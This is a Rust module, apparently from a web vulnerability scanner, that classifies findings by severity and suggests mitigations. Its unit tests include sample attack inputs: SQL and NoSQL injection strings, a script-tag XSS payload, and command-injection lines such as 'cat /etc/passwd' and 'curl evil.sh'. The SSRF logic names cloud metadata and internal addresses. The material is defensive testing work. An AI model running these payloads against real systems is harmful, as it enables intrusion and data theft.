// src/core/classifier/mod.rs

//! Pure, deterministic finding classification.
//!
//! Given a scan kind and a finding, derive a `{severity, mitigation}` pair.
//! Most kinds classify by ordered case-insensitive substring matching against
//! the static tables in [`rules`]; CSRF classifies on the vulnerable flag and
//! HTTP method, directory enumeration on the HTTP status code, and SSRF adds
//! a dedicated mitigation-recommendation function over the evidence text.
//! No I/O, no clock, no randomness: identical inputs always yield identical
//! classifications.

pub mod rules;

use tracing::trace;

use crate::core::models::{Classification, Finding, ScanKind, Severity};
use rules::{RuleSet, NO_EVIDENCE_MITIGATION};

fn rule_set(kind: ScanKind) -> &'static RuleSet {
    match kind {
        ScanKind::Sql => &rules::SQL_RULES,
        ScanKind::Xss => &rules::XSS_RULES,
        ScanKind::CmdInjection => &rules::CMD_INJECTION_RULES,
        ScanKind::Nosql => &rules::NOSQL_RULES,
        ScanKind::AccessControl => &rules::ACCESS_CONTROL_RULES,
        ScanKind::CryptoFailures => &rules::CRYPTO_FAILURES_RULES,
        ScanKind::SecurityMisconfig => &rules::SECURITY_MISCONFIG_RULES,
        ScanKind::AuthFailures => &rules::AUTH_FAILURES_RULES,
        ScanKind::LoggingMonitor => &rules::LOGGING_MONITOR_RULES,
        ScanKind::Dependencies => &rules::DEPENDENCY_RULES,
        ScanKind::Ssrf => &rules::SSRF_RULES,
        // CSRF and directory enumeration never consult a text table; their
        // dedicated paths in `classify` handle them. The SQL table is a safe
        // fallback should a caller route them here anyway.
        ScanKind::Csrf | ScanKind::DirectoryEnum => &rules::SQL_RULES,
    }
}

/// Classifies a payload or issue text against the kind's ordered rule table.
///
/// Missing text fields are treated as empty strings. For evidence-gated kinds
/// (command and NoSQL injection) an absent or empty `evidence` short-circuits
/// to `Low` before any payload rule is consulted: absence of execution
/// evidence is a distinct, higher-priority case, not just "no match".
pub fn classify_text(kind: ScanKind, text: &str, evidence: Option<&str>) -> Classification {
    let set = rule_set(kind);

    if set.evidence_gated && evidence.map_or(true, |e| e.trim().is_empty()) {
        trace!(kind = %kind, "No execution evidence, gating to Low.");
        return Classification {
            severity: Severity::Low,
            mitigation: NO_EVIDENCE_MITIGATION.to_string(),
        };
    }

    let lower = text.to_lowercase();
    for rule in set.rules {
        if rule.needles.iter().any(|needle| lower.contains(needle)) {
            return Classification {
                severity: rule.severity,
                mitigation: rule.mitigation.to_string(),
            };
        }
    }

    Classification {
        severity: set.default_severity,
        mitigation: set.default_mitigation.to_string(),
    }
}

/// Classifies one normalized finding for the given scan kind.
pub fn classify(kind: ScanKind, finding: &Finding) -> Classification {
    match kind {
        ScanKind::Csrf => classify_csrf(finding),
        ScanKind::DirectoryEnum => classify_directory(finding.status_code),
        ScanKind::Ssrf => {
            let combined = format!(
                "{} {}",
                finding.identifier,
                finding.evidence.as_deref().unwrap_or("")
            );
            let base = classify_text(kind, &combined, finding.evidence.as_deref());
            Classification {
                severity: base.severity,
                mitigation: ssrf_mitigation(
                    &finding.identifier,
                    finding.evidence.as_deref().unwrap_or(""),
                ),
            }
        }
        // Dependency findings classify on the advisory description, which the
        // aggregator carries in the evidence slot.
        ScanKind::Dependencies => {
            let text = finding
                .evidence
                .as_deref()
                .unwrap_or(finding.identifier.as_str());
            classify_text(kind, text, finding.evidence.as_deref())
        }
        _ => {
            let text = finding
                .payload
                .as_deref()
                .unwrap_or(finding.identifier.as_str());
            classify_text(kind, text, finding.evidence.as_deref())
        }
    }
}

/// CSRF severity hinges on whether the vulnerable form performs a
/// state-changing request: POST is worse than GET.
fn classify_csrf(finding: &Finding) -> Classification {
    let method = finding
        .method
        .as_deref()
        .unwrap_or("")
        .to_ascii_uppercase();
    let (severity, mitigation) = if finding.vulnerable && method == "POST" {
        (
            Severity::High,
            "Ensure all state-changing requests use CSRF tokens and verify origin headers.",
        )
    } else if finding.vulnerable && method == "GET" {
        (
            Severity::Medium,
            "Avoid state-changing actions via GET requests and implement token validation.",
        )
    } else {
        (
            Severity::Low,
            "Continue to monitor forms and apply defence-in-depth protections.",
        )
    };
    Classification {
        severity,
        mitigation: mitigation.to_string(),
    }
}

/// Directory enumeration severity is keyed entirely off the HTTP status the
/// probed path returned.
fn classify_directory(status_code: Option<u16>) -> Classification {
    let (severity, mitigation) = match status_code {
        Some(200) => (
            Severity::High,
            "Restrict public access to this path using .htaccess or server configuration.",
        ),
        Some(403) => (
            Severity::Medium,
            "Review access permissions to confirm only authorized roles can reach this path.",
        ),
        Some(500) => (
            Severity::Critical,
            "Investigate the server error immediately and patch the underlying misconfiguration.",
        ),
        _ => (
            Severity::Low,
            "No action needed for this path at this time.",
        ),
    };
    Classification {
        severity,
        mitigation: mitigation.to_string(),
    }
}

/// Returns a targeted SSRF remediation based on indicators in the evidence
/// text, falling back to a generic SSRF recommendation and finally to a fully
/// generic one.
pub fn ssrf_mitigation(issue: &str, evidence: &str) -> String {
    if issue.is_empty() || evidence.is_empty() {
        return "Review and secure the affected endpoint.".to_string();
    }

    let issue_lower = issue.to_lowercase();
    let evidence_lower = evidence.to_lowercase();

    if issue_lower.contains("ssrf") && issue_lower.contains("redirect") {
        if evidence_lower.contains("127.0.0.1")
            || evidence_lower.contains("localhost")
            || evidence_lower.contains("0.0.0.0")
        {
            return "Block internal IP addresses (localhost, 127.0.0.1) and implement strict URL whitelisting.".to_string();
        }
        if evidence_lower.contains("169.254.169.254") {
            return "Prevent access to cloud metadata services and implement network-level restrictions.".to_string();
        }
        if evidence_lower.contains("metadata.google.internal") {
            return "Restrict access to Google Cloud metadata endpoints and validate redirect destinations.".to_string();
        }
        if evidence_lower.contains("192.168.")
            || evidence_lower.contains("10.0.")
            || evidence_lower.contains("172.16.")
        {
            return "Restrict private network access and validate redirect URLs against an allowlist.".to_string();
        }
        if evidence_lower.contains("file://") {
            return "Disable file protocol access and sanitize URL schemes in redirect handling.".to_string();
        }
        if evidence_lower.contains("gopher://") {
            return "Block unsupported protocols such as gopher and restrict requests to HTTP and HTTPS only.".to_string();
        }
        if evidence_lower.contains("internal.example.com") {
            return "Implement domain whitelisting and prevent internal domain redirection.".to_string();
        }
        if evidence_lower.contains("burpcollaborator.net") {
            return "Validate all redirect URLs and implement outbound request filtering.".to_string();
        }
    }

    if issue_lower.contains("ssrf") {
        return "Implement strict URL validation, use a whitelist for allowed domains, and restrict internal network access.".to_string();
    }

    "Validate and sanitize all user inputs and implement input filtering.".to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(identifier: &str) -> Finding {
        Finding {
            identifier: identifier.to_string(),
            payload: None,
            vulnerable: true,
            evidence: None,
            status_code: None,
            method: None,
        }
    }

    #[test]
    fn classification_is_deterministic() {
        let a = classify_text(ScanKind::Sql, "' OR '1'='1", Some("error"));
        let b = classify_text(ScanKind::Sql, "' OR '1'='1", Some("error"));
        assert_eq!(a, b);
    }

    #[test]
    fn sql_boolean_bypass_is_high_with_parameterized_query_advice() {
        let c = classify_text(ScanKind::Sql, "' OR '1'='1", None);
        assert_eq!(c.severity, Severity::High);
        assert!(c.mitigation.to_lowercase().contains("parameterized"));
    }

    #[test]
    fn sql_union_select_matches_case_insensitively() {
        let c = classify_text(ScanKind::Sql, "' UNION SELECT 1,2,3 --", None);
        assert_eq!(c.severity, Severity::High);
    }

    #[test]
    fn sql_unmatched_payload_falls_back_to_medium() {
        let c = classify_text(ScanKind::Sql, "' ORDER BY 1--", None);
        assert_eq!(c.severity, Severity::Medium);
    }

    #[test]
    fn xss_script_tag_is_high() {
        let c = classify_text(ScanKind::Xss, "<script>alert(1)</script>", None);
        assert_eq!(c.severity, Severity::High);
    }

    #[test]
    fn xss_bare_alert_is_medium() {
        let c = classify_text(ScanKind::Xss, "alert(1)", None);
        assert_eq!(c.severity, Severity::Medium);
    }

    #[test]
    fn cmd_injection_without_evidence_is_always_low() {
        for payload in ["whoami", "sleep 5", "cat /etc/passwd", "curl evil.sh"] {
            let c = classify_text(ScanKind::CmdInjection, payload, None);
            assert_eq!(c.severity, Severity::Low, "payload {:?}", payload);
            let c = classify_text(ScanKind::CmdInjection, payload, Some("  "));
            assert_eq!(c.severity, Severity::Low, "blank evidence, payload {:?}", payload);
        }
    }

    #[test]
    fn cmd_injection_identity_disclosure_with_evidence_is_critical() {
        let c = classify_text(ScanKind::CmdInjection, "whoami", Some("root"));
        assert_eq!(c.severity, Severity::Critical);
    }

    #[test]
    fn cmd_injection_delay_rule_wins_over_later_rules() {
        // "sleep" appears before the identity rule in the table; first match wins.
        let c = classify_text(ScanKind::CmdInjection, "sleep 10; id", Some("delay"));
        assert_eq!(c.severity, Severity::High);
    }

    #[test]
    fn nosql_without_evidence_is_low() {
        let c = classify_text(ScanKind::Nosql, "{\"$gt\": \"\"}", None);
        assert_eq!(c.severity, Severity::Low);
    }

    #[test]
    fn nosql_bypass_operator_with_evidence_is_critical() {
        let c = classify_text(ScanKind::Nosql, "{\"$ne\": null}", Some("auth bypassed"));
        assert_eq!(c.severity, Severity::Critical);
    }

    #[test]
    fn nosql_where_operator_is_critical() {
        let c = classify_text(ScanKind::Nosql, "{\"$where\": \"this\"}", Some("executed"));
        assert_eq!(c.severity, Severity::Critical);
    }

    #[test]
    fn csrf_vulnerable_post_form_is_high() {
        let mut f = finding("login form");
        f.method = Some("post".to_string());
        let c = classify(ScanKind::Csrf, &f);
        assert_eq!(c.severity, Severity::High);
    }

    #[test]
    fn csrf_vulnerable_get_form_is_medium() {
        let mut f = finding("search form");
        f.method = Some("GET".to_string());
        let c = classify(ScanKind::Csrf, &f);
        assert_eq!(c.severity, Severity::Medium);
    }

    #[test]
    fn csrf_non_vulnerable_form_is_low() {
        let mut f = finding("form");
        f.vulnerable = false;
        f.method = Some("POST".to_string());
        let c = classify(ScanKind::Csrf, &f);
        assert_eq!(c.severity, Severity::Low);
    }

    #[test]
    fn directory_status_tiers() {
        let mut f = finding("/admin/");
        f.status_code = Some(200);
        assert_eq!(classify(ScanKind::DirectoryEnum, &f).severity, Severity::High);
        f.status_code = Some(403);
        assert_eq!(classify(ScanKind::DirectoryEnum, &f).severity, Severity::Medium);
        f.status_code = Some(500);
        assert_eq!(classify(ScanKind::DirectoryEnum, &f).severity, Severity::Critical);
        f.status_code = Some(301);
        assert_eq!(classify(ScanKind::DirectoryEnum, &f).severity, Severity::Low);
        f.status_code = None;
        assert_eq!(classify(ScanKind::DirectoryEnum, &f).severity, Severity::Low);
    }

    #[test]
    fn ssrf_metadata_ip_gets_targeted_mitigation() {
        let m = ssrf_mitigation("SSRF via open redirect", "redirected to 169.254.169.254");
        assert!(m.contains("metadata"));
    }

    #[test]
    fn ssrf_loopback_gets_whitelisting_advice() {
        let m = ssrf_mitigation("SSRF redirect to internal host", "Location: http://127.0.0.1/admin");
        assert!(m.contains("127.0.0.1"));
    }

    #[test]
    fn ssrf_without_redirect_falls_back_to_generic_ssrf_advice() {
        let m = ssrf_mitigation("Possible SSRF in image fetcher", "fetched http://10.0.0.5/");
        assert!(m.to_lowercase().contains("whitelist"));
    }

    #[test]
    fn ssrf_missing_fields_fall_back_to_generic_advice() {
        let m = ssrf_mitigation("", "");
        assert_eq!(m, "Review and secure the affected endpoint.");
    }

    #[test]
    fn issue_kinds_classify_on_identifier_when_payload_is_absent() {
        let f = finding("Exposed admin panel");
        let c = classify(ScanKind::SecurityMisconfig, &f);
        assert_eq!(c.severity, Severity::High);
    }

    #[test]
    fn auth_default_credentials_are_high() {
        let c = classify_text(
            ScanKind::AuthFailures,
            "Default credentials worked: admin/admin",
            None,
        );
        assert_eq!(c.severity, Severity::High);
    }

    #[test]
    fn missing_text_fields_degrade_to_default_classification() {
        let c = classify_text(ScanKind::Xss, "", None);
        assert_eq!(c.severity, Severity::Medium);
        assert!(!c.mitigation.is_empty());
    }
}
